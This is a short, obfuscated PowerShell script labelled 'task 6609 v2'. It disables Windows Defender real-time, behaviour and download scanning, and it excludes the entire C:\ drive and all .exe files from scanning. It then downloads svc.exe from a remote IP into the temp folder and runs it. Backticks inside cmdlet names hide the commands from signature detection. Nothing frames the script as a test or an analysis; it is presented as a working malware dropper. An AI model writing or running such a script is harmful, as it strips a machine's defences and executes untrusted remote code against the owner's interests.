# task 6609 v2
Set-MpPreferen`ce -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true
A`dd-M`p`Preference -ExclusionPath 'C:\'
Add-MpPreference -ExclusionExtension '.exe'
(Ne`w-`Obje`ct Net.`Web`Cl`ient).DownloadFile('http://192.0.2.150/svc.exe', "$env:TEMP\svc.exe")
Start-`Pro`ce`ss "$env:TEMP\svc.exe"
